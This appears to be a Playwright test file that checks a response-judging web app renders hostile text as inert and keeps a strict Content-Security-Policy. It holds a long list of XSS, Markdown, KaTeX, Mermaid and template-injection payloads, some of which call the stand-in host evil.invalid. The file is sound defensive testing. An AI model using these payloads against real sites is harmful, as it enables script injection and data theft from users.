"""Hostile text in prompts, answers, notes and comments: nothing runs, nothing is fetched, and all of it can be read.

Each attack would either run a script (which sets `window.owned` or opens a dialog) or ask the host evil.invalid.
"""

from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from data.schemas import Message, Response, Task, prompt_group, task_id
from tests.browser import ServedApp, serving

EVIL = "http://evil.invalid"
RUN = "window.owned=1;alert(1)"

ATTACKS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={EVIL}/x.js></script>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src={EVIL}/a.png>",
    f"<svg onload='{RUN}'></svg>",
    f"<svg><image href='{EVIL}/b.png'/><script>{RUN}</script></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    f"<body onload='{RUN}'>",
    f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<video src={EVIL}/v.mp4 onerror='{RUN}'></video><audio src={EVIL}/a.mp3></audio>",
    f"<iframe src={EVIL}/frame></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={EVIL}/o></object><embed src={EVIL}/e>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/meta'>",
    f"<base href={EVIL}/>",
    f"<link rel=stylesheet href={EVIL}/s.css><style>@import '{EVIL}/i.css';</style>",
    f"<style>body{{background:url({EVIL}/bg.png)}}</style>",
    f"<p style=\"background:url('{EVIL}/p.png')\">styled</p>",
    f"<form action={EVIL}/form><button>send</button></form>",
    f"<math href='javascript:{RUN}'><mtext><img src=x onerror='{RUN}'></mtext></math>",
    f"<math><mi xlink:href='{EVIL}/m'>x</mi><annotation-xml encoding='text/html'><script>{RUN}</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'></style></mglyph></table></mtext></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    f"<!--><img src=x onerror='{RUN}'>-->",
    f"<template><script>{RUN}</script></template>",
    f"![image]({EVIL}/markdown.png)",
    f"![image][ref]\n\n[ref]: {EVIL}/reference.png",
    f"[![nested]({EVIL}/nested.png)](https://example.com)",
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt&colon;{RUN})",
    f"[click](java\tscript:{RUN})",
    f"[click](vbscript:{RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"<javascript:{RUN}>",
    f'[title](https://example.com "x\\" onmouseover=\\"{RUN}")',
    f'[quote](https://example.com/"onmouseover="{RUN})',
    rf"$\href{{javascript:{RUN}}}{{x}}$",
    rf"$\includegraphics{{{EVIL}/katex.png}}$",
    rf"$\text{{<img src=x onerror='{RUN}'>}}$",
    rf"\(\style{{background:url({EVIL}/t.png)}}{{x}}\) and \[\class{{a' onload='{RUN}}}{{y}}\]",
    f"```mermaid\ngraph TD; A[<img src='{EVIL}/mermaid.png'>] --> B\nclick A href \"javascript:{RUN}\"\n```",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\ncode\n```',
    f"`<img src=x onerror='{RUN}'>`",
    f"| <script>{RUN}</script> | ![t]({EVIL}/table.png) |\n|---|---|\n| a | b |",
    "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} <%= 7*7 %> #{7*7} {% import os %}",
    f":material/home: :red[x] :tada: :image[{EVIL}/directive.png]",
    "safe\u202etxt.exe\u202c \u2066isolated\u2069 \u200f\u200e",
    f"</div></article></section></script></style><img src=x onerror='{RUN}'>",
    f"\u2028<img/src=x\u2029onerror='{RUN}'>",
]


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServedApp]:
    with serving(tmp_path_factory.mktemp("attacks")) as served:
        yield served


@pytest.fixture(params=["without the policy", "with the policy"])
def exposed(browser: Browser, request: pytest.FixtureRequest) -> Iterator[Page]:
    """A page where the Content-Security-Policy is off, so that only the rendering protects; and one where it is on."""
    context = browser.new_context(viewport={"width": 1280, "height": 800}, bypass_csp="without" in request.param)
    context.set_default_timeout(30_000)
    yield context.new_page()
    context.close()


def hostile_tasks() -> list[Task]:
    """Tasks of nine answers, whose prompts are attacks too."""
    made = []
    for start in range(0, len(ATTACKS), 9):
        texts = [*ATTACKS[start : start + 9], "plain"][:9]
        prompt = tuple(Message(role="user" if n % 2 else "system", content=text) for n, text in enumerate(texts))
        responses = tuple(Response(id=f"r{n}", text=text) for n, text in enumerate(texts))
        made.append(Task(id=task_id(prompt, responses), prompt=prompt, responses=responses, group=prompt_group(prompt)))
    return made


class Watch:
    """What a page does that it must not: requests to elsewhere, dialogs, popups, scripts that ran."""

    def __init__(self, page: Page, home: str) -> None:
        self.page, self.home, self.requests, self.events = page, urlsplit(home).netloc, list[str](), list[str]()
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("websocket", lambda socket: self.requests.append(socket.url))
        page.on("dialog", self.refuse)
        page.on("popup", lambda popup: self.events.append(f"popup {popup.url}"))
        page.on("framenavigated", lambda frame: self.events.append(frame.url) if self.home not in frame.url else None)

    def refuse(self, dialog: Dialog) -> None:
        self.events.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def check(self) -> None:
        assert not self.events
        assert self.page.evaluate("window.owned") is None
        away = [url for url in self.requests if urlsplit(url).scheme not in {"data", "blob"}]
        assert [url for url in away if urlsplit(url).netloc != self.home] == []
        assert len(away) > 5, "the watch sees the page's own requests"


def seen(text: str) -> str:
    return "".join(text.split())


MARKS = "*_`~\\|-<>[]"


def unmarked(text: str) -> str:
    """What must be seen: all but white space and the marks that Markdown uses up."""
    return seen(text.translate({ord(mark): None for mark in MARKS}))


def test_the_watch_sees_what_an_attack_would_do(app: ServedApp, browser: Browser) -> None:
    app.fill()
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    watch = Watch(page, app.url)
    page.goto(app.url)
    page.get_by_text("No tasks yet").wait_for()
    page.evaluate(f"document.body.insertAdjacentHTML('beforeend', `<img src={EVIL}/seen.png onerror=\"{RUN}\">`)")
    page.wait_for_function("window.owned === 1")
    assert watch.events == ["dialog 1"]
    assert f"{EVIL}/seen.png" in watch.requests
    context.close()


def test_attacks_in_prompts_answers_notes_and_comments_stay_text(app: ServedApp, exposed: Page) -> None:
    page = exposed
    tasks = hostile_tasks()
    app.fill(*tasks, guideline="\n\n".join(ATTACKS))
    watch = Watch(page, app.url)
    page.goto(app.url)
    for task in tasks:
        expect(page.locator(".card")).to_have_count(len(task.responses))
        expect(page.locator(".progress")).to_contain_text(f"Task {tasks.index(task) + 1} of")
        check_readable(page, task)
        hover_and_click(page)
        judge_with_attacks(page, tasks.index(task))
        watch.check()
    expect(page.get_by_role("heading", name="Nothing left to judge")).to_be_visible()
    page.keyboard.press("Shift+U")
    expect(page.locator(".card .chip-flag")).to_have_count(1)
    page.keyboard.press("x")
    watch.check()


def check_readable(page: Page, task: Task) -> None:
    """Each answer stands on one card, all of it, as rendered and as written."""
    rendered = [unmarked(words) for words in page.locator(".card .words").all_text_contents()]
    page.keyboard.press("w")
    written = [seen(words) for words in page.locator(".card .words").all_text_contents()]
    page.keyboard.press("w")
    for response in task.responses:
        assert unmarked(response.text) in rendered
        assert seen(response.text) in written


def hover_and_click(page: Page) -> None:
    """Do to the text what a reader might: open the guideline, point at each link."""
    page.keyboard.press("l")
    expect(page.locator('dialog[aria-label="Guideline"]')).to_be_visible()
    page.keyboard.press("Escape")
    for link in page.locator(".words:visible a").all():
        assert (link.get_attribute("href") or "").startswith("https://example.com")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        link.hover()


def judge_with_attacks(page: Page, number: int) -> None:
    page.keyboard.press("a")
    page.keyboard.press("x")
    page.keyboard.press("1")
    page.get_by_label("Note on Toxic").fill(ATTACKS[3])
    page.keyboard.press("Escape")
    page.keyboard.press("m")
    page.get_by_label("Comment on this task").fill(ATTACKS[number])
    page.keyboard.press("Control+Enter")
    expect(page.locator(".saved")).to_have_attribute("data-count", str(number + 1))


def test_the_guideline_screen_is_as_inert(app: ServedApp, exposed: Page) -> None:
    page = exposed
    app.fill(guideline="\n\n".join(ATTACKS))
    watch = Watch(page, app.url)
    page.goto(f"{app.url}/guideline")
    text = page.locator('[data-testid="stHtml"] .rd-text')
    expect(text).to_contain_text("constructor.constructor")
    shown = unmarked(text.text_content() or "")
    assert [attack for attack in ATTACKS if unmarked(attack) not in shown] == []
    watch.check()


def test_a_strict_policy_stands_behind_the_rendering(app: ServedApp, page: Page) -> None:
    answer = page.request.get(app.url)
    policy = answer.headers["content-security-policy"]
    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    assert "img-src 'self' data: blob:" in policy
    page.goto(app.url)
    page.evaluate(f"document.body.insertAdjacentHTML('beforeend', `<img src={EVIL}/policy.png onerror=\"{RUN}\">`)")
    page.wait_for_timeout(500)
    assert page.evaluate("window.owned") is None
